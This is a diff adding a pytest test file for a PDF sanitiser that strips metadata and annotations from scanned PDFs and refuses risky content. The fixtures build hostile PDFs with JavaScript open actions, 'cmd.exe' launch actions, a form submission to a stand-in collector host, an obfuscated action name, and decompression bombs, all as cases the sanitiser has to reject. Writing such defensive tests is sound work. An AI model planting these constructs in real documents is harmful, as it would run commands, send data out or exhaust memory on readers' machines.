@@ -1,0 +1,269 @@
+"""A PDF is rewritten as its pages; what a reader could run or unpack is refused."""
+
+from __future__ import annotations
+
+import zlib
+from io import BytesIO
+from typing import Any
+
+import pikepdf
+import pypdfium2
+import pytest
+from pikepdf import Array, Dictionary, Name, Pdf, String
+
+from services.directory.documents import MAX_PAGES, clean_pdf
+from shared.errors import Invalid
+from tests.support.evidence_examples import SECRET, jpeg, pdf, pdf_of, saved
+
+
+def refused(data: bytes) -> str:
+    with pytest.raises(Invalid) as caught:
+        clean_pdf(data)
+    assert caught.value.field == "content"
+    return caught.value.code
+
+
+def shown(data: bytes) -> list[bytes]:
+    """What every page looks like."""
+    with pypdfium2.PdfDocument(data) as document:
+        return [page.render(scale=1).to_pil().tobytes() for page in document]
+
+
+def test_a_scan_keeps_its_pages_and_loses_its_notes() -> None:
+    data = pdf(3)
+    cleaned = clean_pdf(data)
+    assert shown(cleaned) == shown(data)
+    with pikepdf.open(BytesIO(cleaned)) as made:
+        assert len(made.pages) == 3
+        assert dict(made.docinfo) == {}
+        assert set(made.Root.keys()) == {"/Type", "/Pages"}
+        assert {key for page in made.pages for key in page.obj.keys()} == {  # noqa: SIM118  # a page is no mapping
+            "/Type",
+            "/Parent",
+            "/MediaBox",
+            "/Resources",
+            "/Contents",
+        }
+    assert SECRET in data
+    assert SECRET not in cleaned
+
+
+def test_the_photograph_inside_a_scan_is_cleaned_and_not_coded_anew() -> None:
+    with pikepdf.open(BytesIO(clean_pdf(pdf()))) as made:
+        photograph = made.pages[0].Resources.XObject.Scan.read_raw_bytes()
+    assert photograph.startswith(b"\xff\xd8")
+    assert photograph[photograph.index(b"\xff\xdb") :] in jpeg()
+
+
+def test_cleaning_twice_changes_nothing_and_the_same_file_gives_the_same_bytes() -> None:
+    data = pdf(2)
+    assert clean_pdf(data) == clean_pdf(data)
+    assert clean_pdf(clean_pdf(data)) == clean_pdf(data)
+
+
+def test_inherited_page_attributes_stay() -> None:
+    made = pdf_of(2)
+    for page in made.pages:
+        del page.obj["/MediaBox"]
+    made.Root.Pages.MediaBox = Array([0, 0, 300, 200])
+    made.Root.Pages.Rotate = 90
+    data = saved(made)
+    assert shown(clean_pdf(data)) == shown(data)
+
+
+def test_object_streams_and_earlier_versions_are_read_and_gone() -> None:
+    data = saved(pdf_of(), object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    assert b"/ObjStm" in data
+    cleaned = clean_pdf(data)
+    assert b"/ObjStm" not in cleaned
+    assert shown(cleaned) == shown(data)
+    assert clean_pdf(pdf()) == cleaned
+
+
+def test_the_look_of_a_seal_becomes_part_of_its_page() -> None:
+    made = pdf_of()
+    page = made.pages[0]
+    seal = made.make_stream(b"1 0 0 rg 0 0 50 50 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 50, 50])
+    page.Annots = made.make_indirect(
+        Array(
+            [
+                made.make_indirect(
+                    Dictionary(
+                        Type=Name.Annot,
+                        Subtype=Name.Stamp,
+                        Rect=[200, 100, 250, 150],
+                        F=4,
+                        AP=Dictionary(N=seal),
+                        Contents=String(SECRET.decode()),
+                    )  # fmt: skip
+                )
+            ]
+        )
+    )
+    data = saved(made)
+    cleaned = clean_pdf(data)
+    assert shown(cleaned) == shown(data) != shown(pdf())
+    assert b"/Annot" not in cleaned
+    assert SECRET not in cleaned
+
+
+def scripted(made: Pdf) -> None:
+    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
+
+
+def scripted_by_name(made: Pdf) -> None:
+    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array()))
+
+
+def scripted_in_a_page(made: Pdf) -> None:
+    made.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript))
+
+
+def attached(made: Pdf) -> None:
+    made.attachments["a.txt"] = b"hello"
+
+
+def attached_to_a_page(made: Pdf) -> None:
+    made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 1, 1])])
+
+
+def kept_elsewhere(made: Pdf) -> None:
+    made.pages[0].Contents.F = String("other.pdf")
+
+
+def launching(made: Pdf) -> None:
+    made.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))
+
+
+def launching_when_touched(made: Pdf) -> None:
+    action = Dictionary(S=Name.Launch, F=String("cmd.exe"))
+    made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 1, 1], A=action)])
+
+
+def sending(made: Pdf) -> None:
+    made.Root.AA = Dictionary(WC=Dictionary(S=Name.SubmitForm, F=String("http://collector.example")))
+
+
+def enormous(made: Pdf) -> None:
+    made.pages[0].Resources.XObject.Scan.Width = 100_000
+
+
+def without_area(made: Pdf) -> None:
+    made.pages[0].Resources.XObject.Scan.Width = 0
+
+
+def without_size(made: Pdf) -> None:
+    del made.pages[0].Resources.XObject.Scan.Width
+
+
+def no_photograph(made: Pdf) -> None:
+    made.pages[0].Resources.XObject.Scan.write(b"none", filter=Name.DCTDecode)
+
+
+def without_pages(made: Pdf) -> None:
+    del made.pages[0]
+
+
+@pytest.mark.parametrize(
+    ("spoil", "code"),
+    [
+        (scripted, "evidence.script"),
+        (scripted_by_name, "evidence.script"),
+        (scripted_in_a_page, "evidence.script"),
+        (attached, "evidence.attachment"),
+        (attached_to_a_page, "evidence.attachment"),
+        (kept_elsewhere, "evidence.attachment"),
+        (launching, "evidence.action"),
+        (launching_when_touched, "evidence.action"),
+        (sending, "evidence.action"),
+        (enormous, "evidence.too_many_pixels"),
+        (without_area, "evidence.broken"),
+        (without_size, "evidence.broken"),
+        (no_photograph, "evidence.broken"),
+        (without_pages, "evidence.broken"),
+    ],
+)
+@pytest.mark.parametrize("mode", [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate])
+def test_what_is_no_scan_is_refused(spoil: Any, code: str, mode: pikepdf.ObjectStreamMode) -> None:
+    made = pdf_of()
+    spoil(made)
+    assert refused(saved(made, object_stream_mode=mode)) == code
+
+
+@pytest.mark.parametrize("coding", [b"/LZWDecode", b"/LZW#44ecode", b"/Crypt", b"[/Crypt]", b"/Unknown"])
+def test_a_coding_that_scans_do_not_use_is_refused(coding: bytes) -> None:
+    usual = b"/Filter /FlateDecode"
+    assert refused(pdf().replace(usual, (b"/Filter " + coding).ljust(len(usual)))) == "evidence.unsupported"
+
+
+def test_a_name_written_in_another_way_is_the_same_name() -> None:
+    made = pdf_of()
+    launching(made)
+    # As long as the name it stands for with a shorter title before it: no offset moves.
+    made.Root.OpenAction.T = String("12345678")
+    data = saved(made).replace(b"/S /Launch /T (12345678)", b"/S /L#61unch /T (123456)")
+    assert b"#61" in data
+    assert refused(data) == "evidence.action"
+
+
+@pytest.mark.parametrize("password", ["", "secret"])
+def test_an_encrypted_file_is_refused(password: str) -> None:
+    encryption = pikepdf.Encryption(user=password, owner="owner")
+    assert refused(saved(pdf_of(), encryption=encryption)) == "evidence.encrypted"
+
+
+def test_too_many_pages_are_refused() -> None:
+    assert len(shown(clean_pdf(pdf(MAX_PAGES)))) == MAX_PAGES
+    assert refused(pdf(MAX_PAGES + 1)) == "evidence.too_many_pages"
+
+
+def test_a_file_cut_off_anywhere_is_refused() -> None:
+    data = pdf().rstrip()
+    for length in range(5, len(data), 97):
+        assert refused(data[:length]) == "evidence.broken"
+
+
+@pytest.mark.parametrize("extra", [b"PK\x03\x04", b"<script>", b"MZ", SECRET])
+def test_a_file_behind_the_last_page_is_refused(extra: bytes) -> None:
+    assert refused(pdf() + extra) == "evidence.mixed"
+    assert clean_pdf(pdf() + b"\r\n\x00") == clean_pdf(pdf())
+
+
+def test_a_stream_that_inflates_without_end_is_refused() -> None:
+    made = pdf_of()
+    made.pages[0].Contents.write(zlib.compress(bytes(300_000_000), 9), filter=Name.FlateDecode)
+    assert refused(saved(made)) == "evidence.too_complex"
+
+
+def test_objects_that_unpack_to_too_much_are_refused_before_they_fill_the_memory() -> None:
+    """The stream of objects is behind a second filter, so that nobody counts it before the reader unpacks it."""
+    packed = zlib.compress(b"1 0 " + b" " * 200_000_000, 9).hex().encode() + b">"
+    head = b"%PDF-1.7\n"
+    body = (
+        b"2 0 obj\n<</Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]/Length "
+        + str(len(packed)).encode()
+        + b">>stream\n"
+        + packed
+        + b"\nendstream\nendobj\n"
+    )
+    at = len(head) + len(body)
+    entries = b"".join(
+        kind.to_bytes(1, "big") + where.to_bytes(4, "big") + b"\x00"
+        for kind, where in ((0, 0), (2, 2), (1, len(head)), (1, at))
+    )
+    table = (
+        b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 1 0 R/Length "
+        + str(len(entries)).encode()
+        + b">>stream\n"
+        + entries
+        + b"\nendstream\nendobj\nstartxref\n"
+        + str(at).encode()
+        + b"\n%%EOF\n"
+    )
+    assert refused(head + body + table) == "evidence.broken"
+
+
+def test_a_tree_without_end_is_refused() -> None:
+    made = pdf_of()
+    made.Root.Extra = Array([Array([Dictionary(A=number)]) for number in range(30_000)])
+    assert refused(saved(made)) == "evidence.too_complex"
